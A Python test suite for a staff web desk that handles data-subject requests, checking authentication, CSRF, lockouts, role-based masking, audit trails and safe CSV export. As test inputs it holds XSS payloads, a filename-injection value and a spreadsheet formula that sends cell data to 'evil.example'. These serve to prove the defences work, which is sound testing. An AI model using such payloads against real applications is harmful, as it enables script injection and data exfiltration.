"""The staff desk over HTTP: who may see and do what, and what every look leaves in the trail.

Real parts: the Starlette app, the SQLite/PostgreSQL database, the CLI that makes logins, the
case engine. Only the browser is replaced by starlette's TestClient (see test_web_browser.py
for real Chromium).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyotp
import pytest
from sqlmodel import col, select
from starlette.testclient import TestClient

from bot.settings import Settings
from bot.web.routes_report import csv_text, load_report
from storage.db import Database
from storage.models import Customer, OutboundMessage
from storage.staff_logins import StaffLogin
from tests import web_kit as kit
from tests.db_reads import audit_actions, case_row


class Clock:
    def __init__(self) -> None:
        self.now = datetime.now(UTC)

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def desk(tmp_path: Path, db: Database) -> tuple[Path, Settings]:
    return kit.staffed_desk(tmp_path, db, aino="approver", ville="viewer")


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def web(desk: tuple[Path, Settings], db: Database, clock: Clock) -> Iterator[TestClient]:
    with kit.client(desk[1], db, clock=clock) as c:
        yield c


@pytest.fixture
def case_id(db: Database) -> str:
    return kit.make_case(db, customer_id=kit.add_customer(db))


# --- login, sessions, throttling -----------------------------------------------------------------


def test_queue_without_a_session_redirects_to_login(web: TestClient) -> None:
    response = web.get("/cases")
    assert response.status_code == 303
    assert response.headers["location"] == "/login"


def test_login_form_has_the_contract_fields(web: TestClient) -> None:
    html = web.get("/login").text
    for field in ('name="username"', 'name="password"', 'type="hidden" name="csrf_token"'):
        assert field in html


def test_login_sets_a_strict_httponly_cookie_and_redirects(web: TestClient, db: Database) -> None:
    form = web.get("/login")
    response = web.post("/login", data={"username": "aino", "password": kit.PASSWORD,
                                        "csrf_token": kit.csrf_of(form.text)})
    assert response.status_code == 303 and response.headers["location"] == "/cases"
    cookie = response.headers["set-cookie"].lower()
    assert "dsrbot_session=" in cookie and "httponly" in cookie and "samesite=strict" in cookie
    assert web.get("/cases").status_code == 200
    assert [e.actor for e in audit_actions(db, "web.login")] == ["staff:aino"]


def test_login_without_the_form_token_is_refused(web: TestClient) -> None:
    response = web.post("/login", data={"username": "aino", "password": kit.PASSWORD})
    assert response.status_code == 403
    assert "dsrbot_session" not in response.headers.get("set-cookie", "")


def test_wrong_password_does_not_log_in(web: TestClient) -> None:
    form = web.get("/login")
    response = web.post("/login", data={"username": "aino", "password": "not the password",
                                        "csrf_token": kit.csrf_of(form.text)})
    assert response.status_code == 401
    assert web.get("/cases").status_code == 303


def test_five_failed_logins_lock_the_account_for_15_minutes(
        web: TestClient, db: Database, clock: Clock) -> None:
    for _ in range(5):
        form = web.get("/login")
        web.post("/login", data={"username": "aino", "password": "wrong password!",
                                 "csrf_token": kit.csrf_of(form.text)})
    form = web.get("/login")
    locked = web.post("/login", data={"username": "aino", "password": kit.PASSWORD,
                                      "csrf_token": kit.csrf_of(form.text)})
    assert locked.status_code == 401 and "locked for 15 minutes" in locked.text
    assert len(audit_actions(db, "web.login_failed")) == 6
    assert [e.actor for e in audit_actions(db, "web.login_locked")] == ["staff:aino"]
    clock.now += timedelta(minutes=14)
    form = web.get("/login")
    still = web.post("/login", data={"username": "aino", "password": kit.PASSWORD,
                                     "csrf_token": kit.csrf_of(form.text)})
    assert still.status_code == 401
    clock.now += timedelta(minutes=2)
    kit.login(web, "aino")
    assert web.get("/cases").status_code == 200


def test_unknown_username_is_audited_without_the_typed_text(web: TestClient, db: Database) -> None:
    form = web.get("/login")
    web.post("/login", data={"username": "someone@example.org", "password": "x" * 12,
                             "csrf_token": kit.csrf_of(form.text)})
    [entry] = audit_actions(db, "web.login_failed")
    assert entry.actor == "web:unknown"
    assert "someone" not in str(entry.details)


def test_idle_session_expires_and_sends_back_to_login(web: TestClient, clock: Clock) -> None:
    kit.login(web, "aino")
    clock.now += timedelta(minutes=31)
    response = web.get("/cases")
    assert response.status_code == 303 and response.headers["location"] == "/login"


def test_disabled_staff_lose_their_session_at_once(
        web: TestClient, desk: tuple[Path, Settings]) -> None:
    kit.login(web, "aino")
    assert kit.dsrbot(desk[0], "staff", "disable", "aino").exit_code == 0
    assert web.get("/cases").status_code == 303


def test_totp_enrolled_login_needs_the_current_code(
        web: TestClient, desk: tuple[Path, Settings], db: Database) -> None:
    out = kit.dsrbot(desk[0], "staff", "totp", "aino").output
    secret = out.split("secret: ", 1)[1].split()[0]
    form = web.get("/login")
    without = web.post("/login", data={"username": "aino", "password": kit.PASSWORD,
                                       "csrf_token": kit.csrf_of(form.text)})
    assert without.status_code == 401
    kit.login(web, "aino", otp=pyotp.TOTP(secret).now())
    with db.read_session() as s:
        login = s.exec(select(StaffLogin).where(col(StaffLogin.name) == "aino")).one()
    assert login.password_hash.startswith("$argon2id$")


def test_logout_ends_the_session(web: TestClient) -> None:
    token = kit.login(web, "aino")
    assert web.post("/logout", data={"csrf_token": token}).status_code == 303
    assert web.get("/cases").status_code == 303


# --- the queue ---------------------------------------------------------------------------------


def test_queue_lists_open_cases_soonest_due_first_with_colours(
        web: TestClient, db: Database) -> None:
    now = datetime.now(UTC)
    late = kit.make_case(db, received_at=now - timedelta(days=40))
    soon = kit.make_case(db, received_at=now - timedelta(days=27))
    fresh = kit.make_case(db, received_at=now)
    kit.login(web, "aino")
    html = web.get("/cases").text
    assert html.index(late) < html.index(soon) < html.index(fresh)
    assert f'<tr class="overdue">\n      <td data-label="Case"><a href="/cases/{late}"' in html
    assert f'<tr class="due-soon">\n      <td data-label="Case"><a href="/cases/{soon}"' in html
    assert f'<tr class="on-time">\n      <td data-label="Case"><a href="/cases/{fresh}"' in html


def test_queue_filters_by_status_and_type(web: TestClient, db: Database) -> None:
    access = kit.make_case(db, types=("access",), customer_id=kit.add_customer(db))
    erasure = kit.make_case(db, types=("erasure",), verified=False)
    kit.login(web, "aino")
    by_type = web.get("/cases?type=erasure").text
    assert erasure in by_type and access not in by_type
    by_status = web.get("/cases?status=awaiting_identity").text
    assert erasure in by_status and access not in by_status


def test_viewer_sees_requesters_masked_in_the_queue(web: TestClient, case_id: str) -> None:
    kit.login(web, "ville")
    html = web.get("/cases").text
    assert case_id in html and kit.REGISTERED not in html and "m***@e***.fi" in html


def test_approver_sees_requesters_and_the_look_is_audited(
        web: TestClient, case_id: str, db: Database) -> None:
    kit.login(web, "aino")
    assert kit.REGISTERED in web.get("/cases").text
    looks = audit_actions(db, "web.queue_viewed")
    assert looks and all(e.actor == "staff:aino" and e.details["cases"] == 1 for e in looks)


# --- the case page -------------------------------------------------------------------------------


def test_case_page_shows_the_mail_and_audits_who_looked_at_whom(
        web: TestClient, case_id: str, db: Database) -> None:
    kit.login(web, "aino")
    html = web.get(f"/cases/{case_id}").text
    assert "haluan tarkastaa tietoni" in html and "allekirjoitus.png" in html
    [look] = audit_actions(db, "case.viewed")
    assert (look.actor, look.case_id, look.customer_number) == ("staff:aino", case_id, "104233")
    assert look.details["personal_data"] is True


def test_viewer_case_page_hides_the_mail_but_is_audited(
        web: TestClient, case_id: str, db: Database) -> None:
    kit.login(web, "ville")
    html = web.get(f"/cases/{case_id}").text
    assert "haluan tarkastaa tietoni" not in html and kit.REGISTERED not in html
    assert 'action="/cases/' + case_id + '/approve"' not in html
    [look] = audit_actions(db, "case.viewed")
    assert look.actor == "staff:ville" and look.details["personal_data"] is False


def test_pages_with_personal_data_are_not_stored_and_run_no_script(
        web: TestClient, case_id: str) -> None:
    kit.login(web, "aino")
    response = web.get(f"/cases/{case_id}")
    assert response.headers["cache-control"] == "no-store"
    csp = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
    assert "<script" not in response.text


def test_unknown_case_is_404(web: TestClient) -> None:
    kit.login(web, "aino")
    assert web.get("/cases/DSR-2026-9999").status_code == 404


def test_image_attachment_is_served_inline_from_our_origin_and_audited(
        web: TestClient, case_id: str, db: Database) -> None:
    kit.login(web, "aino")
    html = web.get(f"/cases/{case_id}").text
    href = html.split('<img src="', 1)[1].split('"', 1)[0]
    response = web.get(href)
    assert response.status_code == 200 and response.content == kit.png()
    assert response.headers["content-type"] == "image/png"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-disposition"] == 'inline; filename="allekirjoitus.png"'
    assert audit_actions(db, "case.attachment_viewed")[0].actor == "staff:aino"


def test_other_attachments_download_with_a_safe_name(web: TestClient, db: Database) -> None:
    raw = kit.request_mail(attachments=[(b"<svg onload=alert(1)>", "image", "svg+xml",
                                         'evil"; x=.svg')])
    cid = kit.make_case(db, raw)
    kit.login(web, "aino")
    response = web.get(f"/cases/{cid}/messages/1/attachments/0?inline=1")
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-disposition"] == 'attachment; filename="evil_x_.svg"'


def test_viewer_cannot_open_attachments(web: TestClient, case_id: str) -> None:
    kit.login(web, "ville")
    assert web.get(f"/cases/{case_id}/messages/1/attachments/0").status_code == 403


def test_html_only_mail_is_shown_as_escaped_text(web: TestClient, db: Database) -> None:
    msg = kit.request_mail(body="", html='<p onclick="x()">Hei <script>alert(1)</script>'
                           '<a href="javascript:alert(2)">klik</a><img src="https://evil/x.png">')
    cid = kit.make_case(db, msg)
    kit.login(web, "aino")
    html = web.get(f"/cases/{cid}").text
    assert "<script>alert" not in html and "javascript:alert" not in html.split("<pre", 1)[0]
    assert 'src="https://evil' not in html and "onclick" not in html


# --- actions -------------------------------------------------------------------------------------


def test_approver_approves_and_the_decision_is_attributed(
        web: TestClient, case_id: str, db: Database) -> None:
    token = kit.login(web, "aino")
    response = web.post(f"/cases/{case_id}/approve", data={"csrf_token": token})
    assert response.status_code == 303
    assert case_row(db, case_id).status == "approved"
    assert case_row(db, case_id).approved_by == "staff:aino"
    page = web.get(response.headers["location"]).text
    assert f"{case_id} approved by aino" in page


@pytest.mark.parametrize("token", [None, "forged-token"])
def test_action_without_a_valid_csrf_token_is_403_and_changes_nothing(
        web: TestClient, case_id: str, db: Database, token: str | None) -> None:
    kit.login(web, "aino")
    data = {"csrf_token": token} if token else {}
    for verb in ("approve", "refuse", "extend", "assign"):
        assert web.post(f"/cases/{case_id}/{verb}", data={**data, "reason": "x"}
                        ).status_code == 403
    row = case_row(db, case_id)
    assert row.status == "awaiting_approval" and row.assignee is None and not row.extended


def test_stranger_is_sent_to_login_from_reports_csv_and_attachments(
        web: TestClient, case_id: str, db: Database) -> None:
    for path in ("/reports", "/reports.csv", f"/cases/{case_id}/messages/1/attachments/0",
                 f"/cases/{case_id}/messages/1/attachments/0?inline=1", f"/cases/{case_id}"):
        response = web.get(path)
        assert (response.status_code, response.headers["location"]) == (303, "/login"), path
        assert kit.png() != response.content and "month," not in response.text
    assert audit_actions(db, "case.attachment_viewed") == []
    assert audit_actions(db, "web.report_downloaded") == []


def test_stranger_cannot_act(web: TestClient, case_id: str, db: Database) -> None:
    response = web.post(f"/cases/{case_id}/approve", data={"csrf_token": "x"})
    assert response.status_code == 403
    assert case_row(db, case_id).status == "awaiting_approval"


def test_viewer_cannot_decide_and_the_attempt_is_audited(
        web: TestClient, case_id: str, db: Database) -> None:
    token = kit.login(web, "ville")
    for verb, data in (("approve", {}), ("refuse", {"reason": "no"}),
                       ("extend", {"reason": "busy"}), ("assign", {}),
                       ("verify", {"note": "called"}), ("ban", {"ban": "marketing",
                                                                 "note": "phone"}),
                       ("ask", {"question": "Which order?"}),
                       ("received", {"received_on": "2020-01-02", "reason": "a letter"})):
        response = web.post(f"/cases/{case_id}/{verb}", data={"csrf_token": token, **data})
        assert response.status_code == 403, verb
    row = case_row(db, case_id)
    assert row.status == "awaiting_approval" and row.received_at.year != 2020
    with db.read_session() as s:
        assert s.exec(select(OutboundMessage).where(
            OutboundMessage.kind == "information_request")).all() == []
    denials = audit_actions(db, "case.denied")
    assert len(denials) == 8 and {e.actor for e in denials} == {"staff:ville"}
    assert [e.details["attempted"] for e in denials][-2:] == ["request_information",
                                                              "set_received_date"]


def test_refuse_needs_a_reason_and_records_it(
        web: TestClient, case_id: str, db: Database) -> None:
    token = kit.login(web, "aino")
    empty = web.post(f"/cases/{case_id}/refuse", data={"csrf_token": token, "reason": " "})
    assert "needs a reason" in web.get(empty.headers["location"]).text
    assert case_row(db, case_id).status == "awaiting_approval"
    web.post(f"/cases/{case_id}/refuse", data={"csrf_token": token, "reason": "not ours"})
    assert case_row(db, case_id).refusal_reason == "not ours"


def test_extend_and_assign_use_the_case_engine(
        web: TestClient, case_id: str, db: Database) -> None:
    token = kit.login(web, "aino")
    web.post(f"/cases/{case_id}/extend", data={"csrf_token": token, "reason": "many files"})
    web.post(f"/cases/{case_id}/assign", data={"csrf_token": token, "assignee": "cfgviewer"})
    row = case_row(db, case_id)
    assert row.extended and row.extension_reason == "many files"
    assert row.assignee == "cfgviewer"


def test_ask_for_information_mails_the_requester(
        web: TestClient, case_id: str, db: Database) -> None:
    token = kit.login(web, "aino")
    web.post(f"/cases/{case_id}/ask", data={"csrf_token": token,
                                            "question": "Which years do you mean?"})
    with db.read_session() as s:
        [out] = s.exec(select(OutboundMessage)
                       .where(OutboundMessage.kind == "information_request")).all()
    assert out.recipient == kit.REGISTERED and out.case_id == case_id


def test_staff_verification_needs_a_note_and_moves_the_case_on(
        web: TestClient, db: Database) -> None:
    customer = kit.add_customer(db)
    cid = kit.make_case(db, verified=False)
    token = kit.login(web, "aino")
    web.post(f"/cases/{cid}/verify", data={"csrf_token": token, "customer_number": "104233",
                                          "note": ""})
    assert case_row(db, cid).verification_level != "verified"
    web.post(f"/cases/{cid}/verify", data={"csrf_token": token, "customer_number": "104233",
                                          "note": "called the registered phone number"})
    row = case_row(db, cid)
    assert (row.verification_level, row.customer_id, row.status) == (
        "verified", customer, "awaiting_approval")
    [entry] = audit_actions(db, "identity.verified_by_staff")
    assert entry.actor == "staff:aino"


def test_receipt_date_can_only_be_set_back_and_moves_the_due_date(
        web: TestClient, case_id: str, db: Database) -> None:
    token = kit.login(web, "aino")
    before = case_row(db, case_id)
    later = (before.due_date + timedelta(days=1)).isoformat()
    web.post(f"/cases/{case_id}/received", data={"csrf_token": token, "received_on": later,
                                                "reason": "typo"})
    assert case_row(db, case_id).due_date == before.due_date
    earlier = (datetime.now(UTC) - timedelta(days=10)).date()
    web.post(f"/cases/{case_id}/received", data={
        "csrf_token": token, "received_on": earlier.isoformat(),
        "reason": "the letter reached the office first"})
    assert case_row(db, case_id).due_date < before.due_date


# --- reporting -----------------------------------------------------------------------------------


def test_report_page_has_a_server_drawn_chart_and_the_csv_neutralises_formulas(
        web: TestClient, db: Database) -> None:
    kit.make_case(db, types=("access",))
    kit.make_case(db, types=("erasure",))
    kit.login(web, "ville")
    page = web.get("/reports").text
    assert "<svg" in page and '<rect x="40"' in page and "<script" not in page
    response = web.get("/reports.csv")
    assert response.headers["content-disposition"].startswith("attachment")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("month,requests,type_access,type_erasure,language_fi")
    assert lines[-1].startswith("total,2,1,1,2")
    # Every cell the desk writes goes through safe_cell: one that would start a formula
    # (here a month label) reaches the spreadsheet as text.
    report = load_report(web.app.state.desk)
    report.months[0].month = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    row = next(csv.reader(io.StringIO(csv_text(report).splitlines()[1])))
    assert row[0] == "'" + report.months[0].month and row[1] == "2"


def test_case_page_shows_what_holds_an_erasure(
        web: TestClient, db: Database) -> None:
    from datetime import date

    from storage.models import Invoice

    customer_id = kit.add_customer(db)
    with db.session() as s:
        customer = s.get(Customer, customer_id)
        assert customer is not None
        customer.is_org_contact = True
        s.add(customer)
        s.add(Invoice(invoice_number="INV-77", customer_id=customer_id,
                      issued_at=date(2026, 10, 1), due_date=date(2026, 11, 1),
                      status="in_collection"))
    cid = kit.make_case(db, customer_id=customer_id, types=("erasure",))
    kit.login(web, "aino")
    html = web.get(f"/cases/{cid}").text
    assert "invoice INV-77 in collection" in html
    assert "contact person of an organisation" in html


def test_a_foreign_host_name_is_refused(desk: tuple[Path, Settings], db: Database) -> None:
    with kit.client(desk[1], db) as c:
        assert c.get("/login", headers={"host": "attacker.example"}).status_code == 400
        assert c.get("/login").status_code == 200


def test_a_session_outlives_a_restart_only_with_a_configured_key(
        desk: tuple[Path, Settings], db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    from bot.settings import load_settings

    with kit.client(desk[1], db) as first:
        kit.login(first, "aino")
        cookies = dict(first.cookies)
    with kit.client(desk[1], db, cookies=cookies) as restarted:  # a new random key
        assert restarted.get("/cases").status_code == 303
    monkeypatch.setenv("DSRBOT_WEB__SECRET_KEY", "k" * 40)
    keyed = load_settings(desk[0])
    with kit.client(keyed, db) as first:
        kit.login(first, "aino")
        cookies = dict(first.cookies)
    with kit.client(keyed, db, cookies=cookies) as restarted:
        assert restarted.get("/cases").status_code == 200
